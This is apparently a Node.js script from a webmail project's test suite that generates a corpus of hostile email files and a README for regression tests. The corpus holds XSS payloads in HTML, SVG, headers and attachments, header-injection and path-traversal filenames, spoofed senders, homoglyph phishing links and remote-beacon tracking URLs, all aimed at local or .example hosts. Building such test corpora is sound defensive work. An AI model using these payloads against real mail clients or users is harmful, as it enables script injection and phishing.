  ['remote', 'table-background', '<table>/<td>/<th> background', (b) => ({ content: html(`<table background="${b('table-background')}"><tr><td background="${b('td-background')}">x</td><th background="${b('th-background')}">y</th></tr></table>`) })],
  ['remote', 'video-poster-audio', 'video poster/src, audio src, track src', (b) => ({ content: html(`<video poster="${b('poster')}" src="${b('video')}"><track src="${b('track')}"></video><audio src="${b('audio')}" autoplay></audio>`) })],
  ['remote', 'input-image', '<input type=image>', (b) => ({ content: html(`<input type="image" src="${b('input-image')}">`) })],
  ['remote', 'image-set', 'CSS image-set and -webkit-image-set', (b) => ({ content: html(`<p style="background-image:image-set('${b('image-set')}' 1x);background:-webkit-image-set(url(${b('webkit-image-set')}) 1x)">i</p>`) })],
  ['remote', 'cursor', 'cursor:url()', (b) => ({ content: html(`<p style="cursor:url(${b('cursor')}),auto">hover</p>`) })],
  ['remote', 'list-style-image', 'list-style-image / list-style', (b) => ({ content: html(`<ul style="list-style-image:url(${b('list-style-image')})"><li>a</li></ul><ol style="list-style:url(${b('list-style')}) inside"><li>b</li></ol>`) })],
  ['remote', 'border-image', 'border-image and border-image-source', (b) => ({ content: html(`<p style="border:5px solid;border-image:url(${b('border-image')}) 30 round">b</p><p style="border-image-source:url(${b('border-image-source')})">c</p>`) })],
  ['remote', 'protocol-relative', 'protocol-relative and upper-case scheme URLs', (b) => ({ content: html(`<img src="//127.0.0.1:18071/${b('').split('/')[3]}/protocol-relative"><img src="HTTP://127.0.0.1:18071/${b('').split('/')[3]}/upper">`) })],
  ['remote', 'entity-encoded-url', 'the beacon URL written with entities', (b) => ({ content: html(`<img src="${entities.dec(b('entity-dec'))}"><img src="${entities.hex(b('entity-hex'))}">`) })],
  ['remote', 'lazy-and-lowsrc', 'loading=lazy, lowsrc, dynsrc, longdesc', (b) => ({ content: html(`<img loading="lazy" src="${b('lazy')}"><img lowsrc="${b('lowsrc')}" dynsrc="${b('dynsrc')}" longdesc="${b('longdesc')}">`) })],
  ['remote', 'style-element', 'remote urls from a <style> element', (b) => ({ content: html(`<style>p{background:url(${b('style-bg')})} li{list-style-image:url(${b('style-list')})}</style><p>s</p><ul><li>l</li></ul>`) })],
  ['remote', 'object-image', 'object/embed of an image type', (b) => ({ content: html(`<object data="${b('object-img')}" type="image/png"></object><embed src="${b('embed-img')}" type="image/png">`) })],
  ['remote', 'svg-external', 'external svg references (image, use, feImage, tref)', (b) => ({ content: html(`<svg><image href="${b('svg-img')}"/><tref xlink:href="${b('tref')}#t"/><a href="${b('svg-a')}"><text>t</text></a></svg>`) })],
  ['remote', 'meta-refresh-http', 'meta refresh/prefetch via http-equiv Link header', (b) => ({ content: html(`<meta http-equiv="Link" content="<${b('meta-link')}>; rel=preload; as=image"><meta http-equiv="refresh" content="1; URL='${b('meta-refresh-quoted')}'">`) })],
  ['remote', 'cid-missing-and-mixed', 'cid: to a missing part and to a remote-looking part', (b) => ({ content: html(`<img src="cid:nothing@here"><img src="cid:${b('cid')}"><img src="CID:x">`) })],
  ['remote', 'a-href-only', 'a plain link to the beacon (loads only on click)', (b) => ({ content: html(`<p>Read <a href="${b('link-click')}">this</a>. Links are followed only when clicked.</p>`) })],
  // --- attachments and mislabelled types
  ['attachment', 'html-script', 'an HTML attachment with a script', (b) => ({ content: mixed(0, text('Invoice attached.'), [attachment('text/html; name="invoice.html"', 'attachment; filename="invoice.html"', `<script>alert(1)</script><img src="${b('att-html')}">`)]) })],
  ['attachment', 'svg-script', 'an SVG attachment with a script and onload', (b) => ({ content: mixed(0, text('Logo attached.'), [attachment('image/svg+xml; name="logo.svg"', 'attachment; filename="logo.svg"', `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><image href="${b('att-svg')}"/></svg>`)]) })],
  ['attachment', 'svg-inline', 'SVG as an inline part (image/svg+xml) with onload', (b) => ({ content: mixed(0, html('<p>See the chart.</p>'), [attachment('image/svg+xml', 'inline; filename="chart.svg"', `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="${b('inline-svg')}"/></svg>`)]) })],
  ['attachment', 'html-as-png', 'HTML labelled image/png', (b) => ({ content: mixed(0, text('Photo.'), [attachment('image/png; name="photo.png"', 'attachment; filename="photo.png"', `<html><script>alert(1)</script><img src="${b('png-html')}"></html>`)]) })],
  ['attachment', 'html-as-text', 'text/plain part holding HTML', (b) => ({ content: mixed(0, text('Notes.'), [attachment('text/plain; name="notes.txt"', 'attachment; filename="notes.txt"', `<!DOCTYPE html><script>alert(1)</script><img src="${b('txt-html')}">`)]) })],
  ['attachment', 'octet-html-name', 'application/octet-stream with a .html name', (b) => ({ content: mixed(0, text('Report.'), [attachment('application/octet-stream; name="report.html"', 'attachment; filename="report.html"', `<script>alert(1)</script><iframe src="${b('octet-html')}"></iframe>`)]) })],
  ['attachment', 'xhtml', 'application/xhtml+xml with a script', (b) => ({ content: mixed(0, text('XHTML.'), [attachment('application/xhtml+xml; name="page.xhtml"', 'attachment; filename="page.xhtml"', `<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`)]) })],
  ['attachment', 'xml-xslt', 'text/xml with an XSLT stylesheet', (b) => ({ content: mixed(0, text('Data.'), [attachment('text/xml; name="data.xml"', 'attachment; filename="data.xml"', `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${b('xslt')}"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`)]) })],
  ['attachment', 'javascript', 'application/javascript and text/javascript', (b) => ({ content: mixed(0, text('Scripts.'), [attachment('application/javascript; name="a.js"', 'attachment; filename="a.js"', 'alert(1)'), attachment('text/javascript', 'inline', 'alert(2)')]) })],
  ['attachment', 'inline-html-part', 'a text/html part marked inline after the body', (b) => ({ content: mixed(0, text('Body.'), [attachment('text/html; name="second.html"', 'inline; filename="second.html"', `<script>alert(1)</script>`, '7bit')]) })],
  ['attachment', 'odd-case-type', 'ImAgE/SvG+XmL and a type with parameters', (b) => ({ content: mixed(0, text('Odd types.'), [attachment('ImAgE/SvG+XmL; charset=utf-8; name="x.svg"', 'attachment; filename="x.svg"', `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), attachment('Text/HTML ; name=y.htm', 'attachment; filename=y.htm', '<script>alert(2)</script>')]) })],
  ['attachment', 'malformed-type', 'a content type the server cannot parse', (b) => ({ content: mixed(0, text('Broken type.'), [attachment('text/html;;;name="z.html"<script>', 'attachment; filename="z.html"', '<script>alert(1)</script>'), attachment('garbage', 'attachment; filename="g"', '<script>alert(2)</script>')]) })],
  ['attachment', 'related-cid-svg', 'multipart/related: HTML body showing an SVG part via cid:', (b) => {
    const boundary = '=_related_svg';
    return { content: { head: [`Content-Type: multipart/related; boundary="${boundary}"; type="text/html"`], body: [
      `--${boundary}`, 'Content-Type: text/html; charset=utf-8', '', '<p>Chart:</p><img src="cid:chart@corpus"><iframe src="cid:chart@corpus"></iframe>',
      `--${boundary}`, 'Content-Type: image/svg+xml', 'Content-ID: <chart@corpus>', 'Content-Transfer-Encoding: base64', '',
      b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="${b('cid-svg')}"/></svg>`), `--${boundary}--`, ''].join(CRLF) } };
  }],
  ['attachment', 'rfc822-hostile', 'a forwarded message/rfc822 whose HTML is hostile', (b) => {
    const inner = [`From: Inner <inner@attacker.example>`, 'Subject: inner', 'MIME-Version: 1.0', 'Content-Type: text/html', '',
      `<script>alert(1)</script><img src="${b('rfc822')}" onerror="alert(2)">`].join(CRLF);
    return { content: mixed(0, text('Forwarded.'), [{ head: ['Content-Type: message/rfc822', 'Content-Disposition: attachment; filename="fwd.eml"'], body: inner }]) };
  }],
  // --- plain-text messages with tricky links
  ['plaintext', 'javascript-link', 'javascript: and data: in text', (b) => ({ content: text(`Click javascript:alert(1) or data:text/html,<script>alert(2)</script> now.`) })],
  ['plaintext', 'userinfo-host', 'http://good.example@evil.example/', (b) => ({ content: text(`Sign in at http://good.example@evil.example/login and https://bank.example:password@evil.example/.`) })],
  ['plaintext', 'quotes', 'links with quotes trying to break out of href', (b) => ({ content: text(`See http://a.example/"onmouseover="alert(1)" and http://a.example/'onfocus='alert(2)' autofocus='`) })],
  ['plaintext', 'angle-brackets', 'links in angle brackets with markup', (b) => ({ content: text(`<http://a.example/><script>alert(1)</script> <javascript:alert(2)> <http://a.example/<img src=x onerror=alert(3)>>`) })],
  ['plaintext', 'html-in-text', 'HTML tags in a text/plain body', (b) => ({ content: text(`<img src="${b('text-img')}" onerror="alert(1)"><b>bold?</b><iframe src="${b('text-iframe')}"></iframe>`) })],
  ['plaintext', 'very-long-link', 'a very long link', (b) => ({ content: text(`Go to http://a.example/${'x'.repeat(5000)}?q=${'y'.repeat(3000)} now.`) })],
  ['plaintext', 'mailto-injection', 'mailto links with injected parameters', (b) => ({ content: text(`Write to mailto:x@example.test?subject=%3Cscript%3Ealert(1)%3C/script%3E&bcc=spy@attacker.example and mailto:"><script>alert(2)</script>@x.example`) })],
  ['plaintext', 'flowed-markup', 'format=flowed text with markup and quote levels', (b) => ({ content: part('text/plain; charset=utf-8; format=flowed; delsp=yes', `> <script>alert(1)</script> \n>> <img src=x onerror=alert(2)> \nhttp://a.example/ \nend\n`) })],
  ['plaintext', 'lookalike-link-text', 'text claiming one host while the link is another', (b) => ({ content: text(`Your bank: https://bank.example.evil.example/login (looks like bank.example)\nhttps://xn--bnk-7la.example/ and https://bаnk.example/ (Cyrillic а)`) })],
  ['plaintext', 'qute-expression', 'template-engine syntax in the text', (b) => ({ content: text(`{inject:user.login} {#include layout /} {settings.pageSize} {{7*7}} \${7*7} <%= 7*7 %>`) })],
  // --- RFC 2047 / 2231 encoded HTML in headers
  ['encoded', 'subject-b', 'RFC 2047 B-encoded script in Subject', (b) => ({ subject: (n) => rfc2047(`${n} <script>alert(1)</script><img src=x onerror=alert(2)>`) })],
  ['encoded', 'subject-q', 'RFC 2047 Q-encoded markup in Subject', (b) => ({ subject: (n) => `=?UTF-8?Q?${n}_=3Cimg_src=3D${encodeURIComponent(b('subject-q')).replace(/%/g, '=')}=3E_=3Cb=3Ebold=3C/b=3E?=` })],
  ['encoded', 'subject-raw', 'raw (unencoded) markup in Subject', (b) => ({ subject: (n) => `${n} <b onmouseover=alert(1)>Urgent</b> & <i>"quoted"</i>` })],
  ['encoded', 'from-name', 'RFC 2047 script in the From display name', (b) => ({ from: `${rfc2047('<img src=x onerror=alert(1)>Support')} <support@attacker.example>` })],
  ['encoded', 'from-name-raw', 'raw markup in a quoted From display name', (b) => ({ from: `"<script>alert(1)</script>" <x@attacker.example>` })],
  ['encoded', 'to-cc-names', 'encoded markup in To, Cc and Reply-To names', (b) => ({ headers: [`Cc: ${rfc2047('<svg onload=alert(1)>')} <cc@example.test>`, `Reply-To: ${rfc2047('<img src=x onerror=alert(2)>')} <r@attacker.example>`] })],
  ['encoded', 'filename-2047', 'RFC 2047 encoded HTML in an attachment filename', (b) => ({ content: mixed(0, text('See attached.'), [attachment(`application/pdf; name="${rfc2047('<img src=x onerror=alert(1)>.pdf')}"`, `attachment; filename="${rfc2047('<img src=x onerror=alert(1)>.pdf')}"`, '%PDF-1.4')]) })],
  ['encoded', 'filename-2231', 'RFC 2231 encoded HTML in an attachment filename', (b) => ({ content: mixed(0, text('See attached.'), [attachment(`application/pdf; name*=UTF-8''%3Cscript%3Ealert(1)%3C%2Fscript%3E.pdf`, `attachment; filename*=UTF-8''%3Cscript%3Ealert(1)%3C%2Fscript%3E.pdf`, '%PDF-1.4')]) })],
  ['encoded', 'filename-2231-continuation', 'RFC 2231 continuations hiding markup', (b) => ({ content: mixed(0, text('See attached.'), [attachment('application/pdf', `attachment; filename*0*=UTF-8''%3Csvg%20onload%3D; filename*1*=alert(1)%3E; filename*2=".pdf"`, '%PDF-1.4')]) })],
  ['encoded', 'subject-template', 'template syntax and entities in Subject', (b) => ({ subject: (n) => `${n} {inject:user.login} {#include layout /} &lt;b&gt; &amp;` })],
  ['encoded', 'subject-crlf', 'encoded CR/LF and NUL in Subject', (b) => ({ subject: (n) => `=?UTF-8?Q?${n}_line=0D=0AX-Injected:_1=00end?=` })],
  ['encoded', 'subject-bidi', 'RTL override and zero-width characters in Subject', (b) => ({ subject: (n) => rfc2047(`${n} invoice\u202Egnp.exe \u200B\u2066<b>x</b>\u2069`) })],
  ['encoded', 'subject-long', 'a very long encoded Subject', (b) => ({ subject: (n) => [`${n}`, ...Array.from({ length: 40 }, (_, i) => rfc2047(`<i>${i}</i>`))].join(CRLF + ' ') })],
  // --- hostile filenames
  ['filename', 'quotes', 'quotes and backslashes in a filename', (b) => ({ content: mixed(0, text('Files.'), [attachment('text/plain', 'attachment; filename="a\\"b\\\\c\'d.txt"', 'x')]) })],
  ['filename', 'crlf', 'CR/LF in a filename (header injection)', (b) => ({ content: mixed(0, text('Files.'), [attachment('text/plain', `attachment; filename*=UTF-8''a%0D%0ASet-Cookie%3A%20x%3D1%0D%0A%0D%0A%3Cscript%3Ealert(1)%3C%2Fscript%3E.txt`, 'x')]) })],
  ['filename', 'dot-dot-slash', '../ path traversal', (b) => ({ content: mixed(0, text('Files.'), [attachment('text/plain', 'attachment; filename="../../../../etc/passwd"', 'x')]) })],
  ['filename', 'dot-dot-backslash', '..\\ path traversal', (b) => ({ content: mixed(0, text('Files.'), [attachment('text/plain', 'attachment; filename="..\\\\..\\\\Windows\\\\System32\\\\x.bat"', 'x')]) })],
  ['filename', 'nul', 'NUL in a filename', (b) => ({ content: mixed(0, text('Files.'), [attachment('text/plain', `attachment; filename*=UTF-8''safe.txt%00.html`, '<script>alert(1)</script>')]) })],
  ['filename', 'very-long', 'a 1000-character filename', (b) => ({ content: mixed(0, text('Files.'), [attachment('text/plain', `attachment;${Array.from({ length: 10 }, (_, i) => `${CRLF} filename*${i}*=${i ? '' : "UTF-8''"}${'a'.repeat(100)}`).join(';')};${CRLF} filename*10=".txt"`, 'x')]) })],
  ['filename', 'double-extension', 'invoice.pdf.html and rtl-override names', (b) => ({ content: mixed(0, text('Files.'), [attachment('application/pdf', 'attachment; filename="invoice.pdf.html"', '<script>alert(1)</script>'), attachment('application/pdf', `attachment; filename*=UTF-8''invoice%E2%80%AEfdp.html`, '<script>alert(2)</script>')]) })],
  ['filename', 'percent-and-semicolon', 'percent signs, semicolons and equals in a name', (b) => ({ content: mixed(0, text('Files.'), [attachment('text/plain', 'attachment; filename="100%25; filename=evil.html; x=.txt"', 'x')]) })],
  ['filename', 'reserved-names', 'Windows device names and trailing dots', (b) => ({ content: mixed(0, text('Files.'), [attachment('text/plain', 'attachment; filename="CON.txt..."', 'x'), attachment('text/plain', 'attachment; filename=" .htaccess"', 'x')]) })],
  // --- spoofed senders
  ['spoof', 'address-as-name', '"support@bank.example" <evil@attacker.example>', (b) => ({ from: '"support@bank.example" <evil@attacker.example>' })],
  ['spoof', 'angle-in-name', 'display name containing <address>', (b) => ({ from: '"Bank Support <support@bank.example>" <evil@attacker.example>' })],
  ['spoof', 'cyrillic-domain', 'mixed-script look-alike domain', (b) => ({ from: `${rfc2047('PayPal')} <service@${'p\u0430ypal'}.example>`, headers: [] })],
  ['spoof', 'punycode-domain', 'punycode xn-- look-alike domain', (b) => ({ from: 'PayPal <service@xn--pypal-4ve.example>' })],
  ['spoof', 'link-text-host', 'link text showing one host, href to another', (b) => ({ content: html(`<p>Sign in at <a href="http://evil.example/login">https://bank.example/login</a> or <a href="${b('link-click')}">https://bank.example/</a>.</p>`) })],
  ['spoof', 'reply-to', 'From the bank, Reply-To the attacker', (b) => ({ from: 'Bank <support@bank.example>', headers: ['Reply-To: Bank <support@bank.example.attacker.example>'] })],
  ['spoof', 'sender-header', 'Sender differs from From', (b) => ({ from: 'CEO <ceo@company.example>', headers: ['Sender: mallory@attacker.example'] })],
  ['spoof', 'comment-address', 'an address hidden in a comment', (b) => ({ from: 'evil@attacker.example (support@bank.example)' })],
  ['spoof', 'multiple-from', 'two From headers and a group', (b) => ({ from: 'support@bank.example', headers: ['From: evil@attacker.example', 'Cc: undisclosed-recipients:;'] })],
  ['spoof', 'bidi-name', 'right-to-left override in the display name', (b) => ({ from: `${rfc2047('\u202Eelpmaxe.knab@troppus\u202C')} <evil@attacker.example>` })],
  ['spoof', 'encoded-at', 'an encoded @ and newline in the display name', (b) => ({ from: `=?UTF-8?Q?support=40bank.example=0D=0A?= <evil@attacker.example>` })],
  ['spoof', 'lookalike-link-html', 'homoglyph and userinfo links in HTML', (b) => ({ content: html(`<a href="https://b\u0430nk.example/">https://bank.example/</a> <a href="http://bank.example@evil.example/">http://bank.example/</a> <a href="https://xn--bnk-7la.example/">bank</a>`) })],
  // --- malformed MIME
  ['mime', 'missing-end-boundary', 'multipart without its closing boundary', (b) => ({ content: { head: ['Content-Type: multipart/alternative; boundary="open"'], body: ['--open', 'Content-Type: text/plain', '', 'Plain text that should show.', '--open', 'Content-Type: text/html', '', '<p>HTML that should show.</p><script>alert(1)</script>', ''].join(CRLF) } })],
  ['mime', 'no-boundary-parameter', 'multipart with no boundary parameter', (b) => ({ content: { head: ['Content-Type: multipart/mixed'], body: `--x${CRLF}Content-Type: text/html${CRLF}${CRLF}<img src=x onerror=alert(1)>${CRLF}--x--${CRLF}` } })],
  ['mime', 'wrong-charset', 'an unknown charset on an HTML part', (b) => ({ content: part('text/html; charset=x-no-such-charset', '<p>Unknown charset</p><script>alert(1)</script>') })],
  ['mime', 'broken-base64', 'broken base64 in an HTML part', (b) => ({ content: { head: ['Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: base64'], body: `PHA+QnJva2VuPC9wPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD4!!!@@@###${CRLF}PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KDIpPg=${CRLF}` } })],
  ['mime', 'qp-split-tag', 'quoted-printable soft breaks splitting the tag', (b) => ({ content: { head: ['Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: quoted-printable'], body: `<scr=${CRLF}ipt>alert(1)</scr=${CRLF}ipt><img src=3Dx on=${CRLF}error=3Dalert(2)>=ZZ bad escape${CRLF}` } })],
  ['mime', 'unknown-encoding', 'an unknown Content-Transfer-Encoding', (b) => ({ content: { head: ['Content-Type: text/html', 'Content-Transfer-Encoding: x-uuencode'], body: `begin 644 x${CRLF}<script>alert(1)</script>${CRLF}end${CRLF}` } })],
  ['mime', 'deep-nesting', 'multipart nested 30 levels deep', (b) => {
    let body = `Content-Type: text/html${CRLF}${CRLF}<p>deep</p><img src=x onerror=alert(1)>`;
    for (let i = 0; i < 30; i++) body = `Content-Type: multipart/mixed; boundary="d${i}"${CRLF}${CRLF}--d${i}${CRLF}${body}${CRLF}--d${i}--`;
    const [head, ...rest] = body.split(CRLF + CRLF);
    return { content: { head: [head], body: rest.join(CRLF + CRLF) + CRLF } };
  }],
  ['mime', 'missing-content-type', 'HTML body with no Content-Type at all', (b) => ({ content: { head: [], body: `<html><script>alert(1)</script><p>no type</p></html>${CRLF}` } })],
  ['mime', 'duplicate-content-type', 'two Content-Type headers (text then html)', (b) => ({ content: { head: ['Content-Type: text/plain', 'Content-Type: text/html'], body: `<img src=x onerror=alert(1)>${CRLF}` } })],
  ['mime', 'utf16-html', 'an HTML part in UTF-16 with a BOM', (b) => ({ content: { head: ['Content-Type: text/html; charset=utf-16', 'Content-Transfer-Encoding: base64'], body: Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from('<script>alert(1)</script><p>utf16</p>', 'utf16le').swap16()]).toString('base64') + CRLF } })],
  ['mime', 'boundary-in-body', 'the boundary string appearing inside a part', (b) => ({ content: { head: ['Content-Type: multipart/mixed; boundary="b"'], body: ['--b', 'Content-Type: text/html', '', '<p>one --b</p>', '--bx', '<script>alert(1)</script>', '--b', 'Content-Type: text/plain', '', 'two', '--b--', ''].join(CRLF) } })],
  ['mime', 'alternative-hostile-html', 'alternative with innocent text and hostile HTML', (b) => ({ content: { head: ['Content-Type: multipart/alternative; boundary="alt"'], body: ['--alt', 'Content-Type: text/plain', '', 'Nothing to see.', '--alt', 'Content-Type: text/html', '', `<body onload=alert(1)><img src="${b('alt-img')}"><script>alert(2)</script>`, '--alt--', ''].join(CRLF) } })],
  ['mime', 'eight-bit-headers', 'raw 8-bit bytes and a huge header', (b) => ({ headers: [`X-Huge: ${Array(300).fill('<script>alert(1)</script>').join(CRLF + ' ')}`, 'X-Eight-Bit: caf\u00e9 \u00fcber \u2603'], content: text('Body after a huge header.') })],
  ['mime', 'truncated', 'a message cut off in the middle of a tag', (b) => ({ content: { head: ['Content-Type: text/html'], body: `<p>cut <img src="x" onerror="alert(1)` } })],
  ['mime', 'empty-body', 'an HTML message with an empty body', (b) => ({ content: { head: ['Content-Type: text/html'], body: '' } })],
];

function message(n, [cls, slug, , build]) {
  const num = String(n).padStart(3, '0');
  const b = (what) => `${BEACON}/${n}/${what}`;
  const spec = build(b);
  const content = spec.content ?? html(`<p>Message ${num}: ${cls}/${slug}.</p>`);
  const subject = spec.subject ? spec.subject(num) : `${num} ${cls}: ${slug}`;
  const minutes = String(n % 60).padStart(2, '0');
  const head = [
    `From: ${spec.from ?? FROM}`, `To: ${TO}`, `Subject: ${subject}`,
    `Date: Tue, 01 Dec 2026 ${String(8 + Math.floor(n / 60)).padStart(2, '0')}:${minutes}:00 +0000`,
    `Message-ID: <hostile-${num}@corpus.example.test>`, ...(spec.headers ?? []), 'MIME-Version: 1.0', ...content.head];
  return head.join(CRLF) + CRLF + CRLF + content.body + (content.body.endsWith(CRLF) || !content.body ? '' : CRLF);
}

for (const f of fs.readdirSync(HERE)) if (f.endsWith('.eml')) fs.unlinkSync(path.join(HERE, f));
const rows = [];
const perClass = new Map();
CORPUS.forEach((entry, i) => {
  const n = i + 1;
  const file = `${String(n).padStart(3, '0')}-${entry[0]}-${entry[1]}.eml`;
  const eml = message(n, entry);
  const long = eml.split(CRLF).find((line) => Buffer.byteLength(line) > 998);
  if (long) throw new Error(`${file}: a line longer than RFC 5322's 998 characters: ${long.slice(0, 60)}`);
  fs.writeFileSync(path.join(HERE, file), eml);
  rows.push(`| ${file} | ${entry[2].replace(/\|/g, '\\|').replace(/</g, '&lt;')} |`);
  perClass.set(entry[0], (perClass.get(entry[0]) ?? 0) + 1);
});
const CLASSES = {
  script: 'script elements in every spelling (case, NUL, split tags, unclosed, in attributes, comments, other charsets)',
  handler: 'event handler attributes on every element kind',
  url: 'javascript:, vbscript: and data: URLs in every URL-bearing attribute, obfuscated',
  svg: 'SVG animate/set on href and style, FuncIRI url(), feImage, use, foreignObject',
  mxss: 'namespace confusion and mutation XSS (noscript, template, comments, CDATA, math/svg chains)',
  element: 'active elements: base, meta refresh, link, iframe/srcdoc, object, embed, applet, frameset',
  form: 'forms, password fields and phishing login pages',
  css: 'CSS expression/behavior/binding, @import, var(), overlays, styles aimed at the app page',
  remote: 'remote content of every kind (must not load until the reader allows it)',
  attachment: 'HTML/SVG/script attachments and mislabelled content types',
  plaintext: 'text/plain bodies with tricky links and markup',
  encoded: 'RFC 2047/2231 encoded markup in Subject, names and filenames',
  filename: 'hostile attachment filenames (quotes, CR/LF, traversal, NUL, very long)',
  spoof: 'spoofed senders and look-alike links',
  mime: 'malformed MIME that must still render what it can',
};
const readme = `# Hostile mail corpus

${CORPUS.length} messages written to attack the reader. \`generate.mjs\` writes them (\`node generate.mjs\`); the
\`.eml\` files are committed so a review reads the mail itself. Every Subject starts with the file's number.

**Beacon convention:** a payload that "works" requests \`http://127.0.0.1:18071/<number>/<what>\` (the number says
which message fired) or calls \`alert\`/\`confirm\`/\`prompt\`/\`print\`. No payload names a public host; spoofed and
displayed hosts are \`.example\`/\`.test\` names.

Run by \`org.webmail.message.HostileCorpusJourneyTest\` (every build: read page, body frame, attachments and list
over HTTP) and \`frontend/browser-check/journey-hostile-corpus.mjs\` (Chromium against the demo: no beacon hit, no
dialog, no popup, no foreign request).

## Classes

| class | files | attacks |
|---|---|---|
${Object.entries(CLASSES).map(([c, d]) => `| ${c} | ${perClass.get(c) ?? 0} | ${d} |`).join('\n')}

## Files

| file | attacks |
|---|---|
${rows.join('\n')}
`;
fs.writeFileSync(path.join(HERE, 'README.md'), readme);
console.log(`${CORPUS.length} messages: ${[...perClass].map(([c, k]) => `${c} ${k}`).join(', ')}`);
